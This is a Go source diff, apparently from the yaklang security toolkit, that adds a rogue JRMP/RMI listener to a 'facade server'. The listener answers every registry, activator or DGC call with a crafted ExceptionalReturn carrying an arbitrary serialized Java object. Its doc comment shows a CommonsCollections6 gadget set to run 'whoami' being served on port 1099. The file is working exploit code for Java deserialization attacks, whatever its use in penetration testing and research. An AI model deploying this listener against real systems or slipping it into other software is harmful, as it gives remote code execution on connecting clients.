@@ -0,0 +1,157 @@
+package facades
+
+import (
+	"bytes"
+	"encoding/binary"
+	"fmt"
+	"math/rand"
+	"net"
+	"time"
+
+	"github.com/yaklang/yaklang/common/log"
+	"github.com/yaklang/yaklang/common/utils"
+	"github.com/yaklang/yaklang/common/yserx"
+)
+
+// well-known object numbers of ObjID
+const (
+	jrmpRegistryObjNum  = 0
+	jrmpActivatorObjNum = 1
+	jrmpDGCObjNum       = 2
+)
+
+// SetJRMPPayload set the java object which is returned by jrmp listener as the exception of every call,
+// the client deserializes it when it calls the registry or dgc of facade server.
+// Example:
+// ```
+// obj, _ = yso.GetCommonsCollections6JavaObject("whoami")
+// s = facades.NewFacadeServer("0.0.0.0", 1099, facades.jrmpPayload(obj))
+// ```
+func SetJRMPPayload(obj yserx.JavaSerializable) FacadeServerConfig {
+	return func(f *FacadeServer) {
+		f.jrmpPayload = obj
+	}
+}
+
+// annotateClassForRMI add the null location annotation to all class descriptions like sun.rmi.server.MarshalOutputStream,
+// the MarshalInputStream reads one location object before TC_ENDBLOCKDATA of every class description
+func annotateClassForRMI(obj yserx.JavaSerializable) {
+	switch ret := obj.(type) {
+	case *yserx.JavaObject:
+		annotateClassForRMI(ret.Class)
+		for _, data := range ret.ClassData {
+			annotateClassForRMI(data)
+		}
+	case *yserx.JavaClassDesc:
+		annotateClassForRMI(ret.Detail)
+	case *yserx.JavaClassDetails:
+		if ret.IsJavaNull() {
+			return
+		}
+		if ret.DynamicProxyClass {
+			if len(ret.DynamicProxyAnnotation) == 0 {
+				ret.DynamicProxyAnnotation = []yserx.JavaSerializable{yserx.NewJavaNull()}
+			}
+		} else if len(ret.Annotations) == 0 {
+			ret.Annotations = []yserx.JavaSerializable{yserx.NewJavaNull()}
+		}
+		for _, annotation := range ret.Annotations {
+			annotateClassForRMI(annotation)
+		}
+		for _, annotation := range ret.DynamicProxyAnnotation {
+			annotateClassForRMI(annotation)
+		}
+		if ret.SuperClass != nil {
+			annotateClassForRMI(ret.SuperClass)
+		}
+	case *yserx.JavaClassData:
+		for _, field := range ret.Fields {
+			annotateClassForRMI(field)
+		}
+		for _, block := range ret.BlockData {
+			annotateClassForRMI(block)
+		}
+	case *yserx.JavaFieldValue:
+		if ret.Object != nil {
+			annotateClassForRMI(ret.Object)
+		}
+	case *yserx.JavaArray:
+		annotateClassForRMI(ret.ClassDesc)
+		for _, value := range ret.Values {
+			annotateClassForRMI(value)
+		}
+	case *yserx.JavaClass:
+		annotateClassForRMI(ret.Desc)
+	case *yserx.JavaEnumDesc:
+		annotateClassForRMI(ret.TypeClassDesc)
+	}
+}
+
+// marshalJRMPPayload marshal the payload as the object written by MarshalOutputStream, the origin payload is not modified
+func marshalJRMPPayload(payload yserx.JavaSerializable) ([]byte, error) {
+	objs, err := yserx.ParseJavaSerialized(yserx.MarshalJavaObjects(payload))
+	if err != nil {
+		return nil, utils.Errorf("parse jrmp payload failed: %s", err)
+	}
+	var raw []byte
+	for _, obj := range objs {
+		annotateClassForRMI(obj)
+		raw = append(raw, obj.Marshal()...)
+	}
+	return raw, nil
+}
+
+// jrmpCallTarget parse the call header (ObjID, operation and hash) and return the name of called remote object
+func jrmpCallTarget(call []byte) (string, error) {
+	// aced0005 + TC_BLOCKDATA + size + ObjID(22) + op(4) + hash(8)
+	if len(call) < 6+34 || !bytes.Equal(call[:4], serializationHeader) || call[4] != yserx.TC_BLOCKDATA {
+		return "", utils.Errorf("invalid jrmp call header: %x", call)
+	}
+	header := call[6:]
+	objNum := int64(binary.BigEndian.Uint64(header[:8]))
+	op := int32(binary.BigEndian.Uint32(header[22:26]))
+	hash := int64(binary.BigEndian.Uint64(header[26:34]))
+	var name string
+	switch objNum {
+	case jrmpRegistryObjNum:
+		name = "registry"
+	case jrmpActivatorObjNum:
+		name = "activator"
+	case jrmpDGCObjNum:
+		name = "dgc"
+	default:
+		name = fmt.Sprintf("object-%d", objNum)
+	}
+	return fmt.Sprintf("%s(op: %d, hash: %d)", name, op, hash), nil
+}
+
+// jrmpServeCall answer the call with ExceptionalReturn, the exception is the jrmp payload
+func (f *FacadeServer) jrmpServeCall(peekConn *utils.BufferedPeekableConn, call []byte) error {
+	var conn net.Conn = peekConn
+	target, err := jrmpCallTarget(call)
+	if err != nil {
+		return err
+	}
+	log.Infof("conn[%s] calls %s, return jrmp payload", conn.RemoteAddr(), target)
+	payload, err := marshalJRMPPayload(f.jrmpPayload)
+	if err != nil {
+		return err
+	}
+
+	var buf bytes.Buffer
+	buf.WriteByte(rmiCommandReturn)
+	buf.Write(serializationHeader)
+	// ExceptionalReturn + UID(unique int, time long, count short)
+	var uid bytes.Buffer
+	uid.WriteByte(rmiExceptionReturn)
+	uid.Write(yserx.IntTo4Bytes(rand.Intn(0x7fffffff)))
+	uid.Write(yserx.Uint64To8Bytes(uint64(time.Now().UnixMilli())))
+	uid.Write(yserx.IntTo2Bytes(0))
+	buf.Write(yserx.NewJavaBlockDataBytes(uid.Bytes()).Marshal())
+	buf.Write(payload)
+	if _, err := conn.Write(buf.Bytes()); err != nil {
+		return utils.Errorf("write jrmp payload failed: %s", err)
+	}
+	f.triggerNotificationEx("jrmp", peekConn.GetOriginConn(), target, call, fmt.Sprintf("payload: %d bytes", len(payload)))
+	return nil
+}